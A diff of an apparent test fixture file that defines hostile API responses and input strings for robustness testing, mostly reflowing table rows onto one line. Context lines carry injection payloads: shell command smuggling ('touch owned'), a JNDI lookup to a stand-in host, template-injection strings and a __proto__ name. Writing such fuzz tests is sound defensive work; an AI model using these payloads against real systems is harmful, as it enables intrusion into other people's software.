@@ -120,14 +120,11 @@ export const valueRows = hostileTable`
     }}
   0,1,3 lone-surrogates: Half of a character in every name
     ${{ serves: text((body) => body.replace(/"name":"/g, '"name":"\\ud800')), says: ANY_VERDICT }}
-  1,3 numbers-beyond-doubles: Totals that no double can hold
-    ${{ serves: total('1e999'), says: VERDICT }}
-  1,3 long-numbers: Totals of a thousand digits
-    ${{ serves: total('9'.repeat(1000)), says: VERDICT }}
+  1,3 numbers-beyond-doubles: Totals that no double can hold ${{ serves: total('1e999'), says: VERDICT }}
+  1,3 long-numbers: Totals of a thousand digits ${{ serves: total('9'.repeat(1000)), says: VERDICT }}
   1,3 tiny-numbers: Totals that differ from zero by nothing that can be written
     ${{ serves: total('-0.0e-999'), says: VERDICT }}
-  1,3 not-a-number: NaN where a number should be
-    ${{ serves: total('NaN'), says: VERDICT }}
+  1,3 not-a-number: NaN where a number should be ${{ serves: total('NaN'), says: VERDICT }}
   1,3 ids-of-objects: Ids are lists, objects and nothing
     ${{
       serves: inRecords((record) => {
@@ -153,14 +150,12 @@ export const valueRows = hostileTable`
       serves: text((body) => body.replace(/"createdAt":"[^"]*"/g, '"createdAt":"+275761-13-45T99:99:99.999Z"')),
       says: VERDICT,
     }}
-  0,1,3 byte-order-mark: A mark in front of every body
-    ${{ serves: text((body) => `\ufeff${body}`), says: /./ }}
+  0,1,3 byte-order-mark: A mark in front of every body ${{ serves: text((body) => `\ufeff${body}`), says: /./ }}
   1,3 two-values: Two JSON values in one body
     ${{ serves: at('/products', json('{"data":[]}{"data":[{}]}')), says: VERDICT }}
   1,3,4 text-for-everything: A JSON text in place of every answer
     ${{ serves: answers(200, {}, '"hostile"'), says: /./ }}
-  1,3,4 empty-object-for-everything: An empty object in place of every answer
-    ${{ serves: json('{}'), says: /./ }}
+  1,3,4 empty-object-for-everything: An empty object in place of every answer ${{ serves: json('{}'), says: /./ }}
   1,3 empty-list-for-everything: An empty list in place of every answer
     ${{ serves: json('{"data":[],"pagination":{"nextCursor":null}}'), says: VERDICT }}
 `;
@@ -224,10 +219,8 @@ export const textRows = hostileTable`
     ${texts("'; touch owned; '$(touch owned)`touch owned`\n\" && touch owned #\\")}
   1 templates: Texts that a template or a logger would expand
     ${texts(`${'$'}{jndi:ldap://x.example/a}{{constructor.constructor("alert(1)")()}}%s%n%x<%= 7*7 %>#{7*7}`)}
-  1 prototype-names: Texts that are names of what all objects inherit
-    ${texts('__proto__')}
-  1 long-words: Texts of a hundred kilobytes without a space
-    ${texts('live_'.repeat(20_000))}
+  1 prototype-names: Texts that are names of what all objects inherit ${texts('__proto__')}
+  1 long-words: Texts of a hundred kilobytes without a space ${texts('live_'.repeat(20_000))}
   1 near-matches: Texts that almost look like telephone numbers, addresses and keys, again and again
     ${texts(`${'+66 9-'.repeat(500)}${'a@'.repeat(500)}${'9 '.repeat(500)}${'cp_live_'.repeat(150)}`)}
   0,1,3 headers-with-texts: Headers that are commands to a pipeline
